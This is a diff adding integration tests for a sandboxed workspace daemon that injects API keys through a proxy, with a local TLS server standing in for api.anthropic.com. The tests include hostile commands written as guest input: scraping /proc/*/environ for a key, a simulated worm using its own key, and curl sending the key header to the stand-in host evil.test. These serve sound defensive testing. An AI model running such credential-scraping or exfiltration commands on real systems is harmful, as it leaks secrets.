@@ -16,12 +16,14 @@
 #include <atomic>
 #include <filesystem>
 #include <fstream>
+#include <map>
 #include <mutex>
 #include <thread>
 
 #include "tests/integration/environment.h"
 #include "tests/support/http_server.h"
 #include "tests/support/openssl_hello.h"
+#include "tests/support/tls_loopback.h"
 
 namespace ws::test {
 namespace {
@@ -48,12 +50,16 @@ class NamedHosts : public ::testing::Test {
     fs::create_directories("/etc/netns/" + ns_);
     std::ofstream("/etc/netns/" + ns_ + "/hosts")
         << "127.0.0.1 localhost\n198.51.100.10 allowed.test\n198.51.100.11 evil.test\n10.0.0.5 "
-           "db.corp.test\n";
+           "db.corp.test\n"
+        << extra_hosts_;
     char tmpl[] = "/tmp/wsit-ns-XXXXXX";
     state_ = mkdtemp(tmpl);
     chmod(state_.c_str(), 0711);
     RunOptions o;
-    daemon_ = Spawn({"ip", "netns", "exec", ns_, W().bin(), "daemon", "--state-dir", state_}, o);
+    std::vector<std::string> args = {"ip",      "netns",  "exec",        ns_,
+                                     W().bin(), "daemon", "--state-dir", state_};
+    args.insert(args.end(), daemon_args_.begin(), daemon_args_.end());
+    daemon_ = Spawn(args, o);
     for (int i = 0; i < 600 && !fs::exists(state_ + "/daemon.sock"); ++i) {
       std::this_thread::sleep_for(std::chrono::milliseconds(100));
     }
@@ -75,6 +81,8 @@ class NamedHosts : public ::testing::Test {
   }
   std::string ns_, srv_, state_;
   int daemon_ = -1;
+  std::string extra_hosts_;               // more lines for the daemon's /etc/hosts
+  std::vector<std::string> daemon_args_;  // more options for `workspace daemon`
 };
 
 TEST_F(NamedHosts, AllowedNamesAreFetchedAndOthersAreRefusedBeforeAnyConnection) {
@@ -175,6 +183,94 @@ TEST_F(NamedHosts, AnAllowedNameCannotFrontForAnother) {
   EXPECT_NE(audit.find("TLS server name other.example is not allowed.test"), std::string::npos)
       << audit;
   EXPECT_EQ(Cli({"destroy", "-f", "front"}).code, 0);
+}
+
+// Secrets: a TLS server in the test namespace stands in for
+// api.anthropic.com (the daemon's /etc/hosts maps the name there; its
+// certificate comes from a test CA the daemon is told to trust with
+// --upstream-ca). Nothing leaves the machine.
+class InterceptedHosts : public NamedHosts {
+ protected:
+  void SetUp() override {
+    char tmpl[] = "/tmp/wsit-ca-XXXXXX";
+    ca_dir_ = mkdtemp(tmpl);
+    ca_ = std::make_unique<TestCa>(ca_dir_, std::vector<std::string>{"api.anthropic.com"});
+    extra_hosts_ = "198.51.100.10 api.anthropic.com\n";
+    daemon_args_ = {"--upstream-ca", ca_->ca_pem_path()};
+    NamedHosts::SetUp();
+  }
+  void TearDown() override {
+    NamedHosts::TearDown();
+    fs::remove_all(ca_dir_);
+  }
+  RunResult CliWith(std::vector<std::string> args, std::map<std::string, std::string> env) {
+    RunOptions o;
+    o.env = std::move(env);
+    o.env["WORKSPACE_STATE_DIR"] = state_;
+    return W().Cli(args, o);
+  }
+  std::string ca_dir_;
+  std::unique_ptr<TestCa> ca_;
+};
+
+TEST_F(InterceptedHosts, ABoundKeyReachesItsHostWhileTheGuestHoldsOnlyAPlaceholder) {
+  const std::string key = "sk-ant-api03-TESTREALKEY-" + std::to_string(getpid());
+  LoopbackTlsServer server(*ca_,
+                           RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.10", 443));
+  auto add =
+      CliWith({"secret", "add", "anthropic", "--from-env", "WS_TEST_KEY"}, {{"WS_TEST_KEY", key}});
+  ASSERT_EQ(add.code, 0) << add.err;
+  auto list = Cli({"secret", "list", "--json"});
+  EXPECT_NE(list.out.find("\"host\":\"api.anthropic.com\""), std::string::npos) << list.out;
+  EXPECT_EQ(list.out.find(key), std::string::npos) << "a value came back";
+  auto create = Cli({"create", "sec", "--image", "debian", "--no-share", "--secret", "anthropic"});
+  ASSERT_EQ(create.code, 0) << create.err;
+  auto sh = [&](const std::string& script) {
+    return Cli({"exec", "--timeout", "90", "sec", "--", "sh", "-c", script});
+  };
+  // The guest's variable is a placeholder; the key is nowhere in its environment.
+  auto env =
+      sh("echo \"$ANTHROPIC_API_KEY\"; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | "
+         "grep -c " +
+         key.substr(0, 20) + " || true");
+  ASSERT_EQ(env.out.rfind("wsph_", 0), 0u) << env.out << env.err;
+  EXPECT_EQ(env.out.find(key), std::string::npos);
+  EXPECT_NE(env.out.find("\n0\n"), std::string::npos) << env.out;
+  // curl and python through the proxy, trusting the workspace CA: the server
+  // gets the real key; what it echoes back reaches the guest as the placeholder.
+  auto curl =
+      sh("curl -sS https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\"");
+  EXPECT_EQ(curl.code, 0) << curl.out << curl.err;
+  EXPECT_NE(curl.out.find("x-api-key: wsph_"), std::string::npos) << curl.out;
+  EXPECT_EQ(curl.out.find(key), std::string::npos) << "the key came back to the guest";
+  EXPECT_NE(server.got().find("x-api-key: " + key + "\r\n"), std::string::npos) << server.got();
+  auto py =
+      sh("python3 -c \"import os,urllib.request as u; r=u.Request('https://api.anthropic.com/py',"
+         " headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']}); print(u.urlopen(r).status)\"");
+  EXPECT_EQ(py.out, "200\n") << py.out << py.err;
+  EXPECT_NE(server.got().find("GET /py HTTP/1.1"), std::string::npos) << server.got();
+  // A worm with its own key, and one that sends the placeholder elsewhere.
+  const size_t before = server.got().size();
+  auto worm =
+      sh("curl -sS -w ' %{http_code}' https://api.anthropic.com/v1/files -H "
+         "'x-api-key: sk-ant-worms-own'");
+  EXPECT_NE(worm.out.find("403"), std::string::npos) << worm.out << worm.err;
+  EXPECT_NE(worm.out.find("not the workspace's placeholder"), std::string::npos) << worm.out;
+  EXPECT_EQ(server.got().size(), before) << "the worm's request reached the server";
+  auto elsewhere =
+      sh("curl -sS https://evil.test/ -H \"x-api-key: $ANTHROPIC_API_KEY\"; echo rc=$?");
+  EXPECT_EQ(elsewhere.out.find(key), std::string::npos);
+  auto audit = Cli({"audit", "sec", "--json"}).out;
+  EXPECT_NE(audit.find("\"rule\":\"ai-api\",\"binding\":\"anthropic\",\"injected\":true"),
+            std::string::npos)
+      << audit;
+  EXPECT_NE(audit.find("\"rule\":\"foreign credential\""), std::string::npos) << audit;
+  EXPECT_EQ(audit.find(key), std::string::npos) << "the key is in the audit log";
+  // Unbound: the guest's variable is gone and the host injects nothing.
+  ASSERT_EQ(Cli({"secret", "unbind", "sec", "anthropic"}).code, 0);
+  auto after = sh("echo \"[$ANTHROPIC_API_KEY]\"");
+  EXPECT_EQ(after.out, "[]\n") << after.out;
+  EXPECT_EQ(Cli({"destroy", "-f", "sec"}).code, 0);
 }
 
 }  // namespace
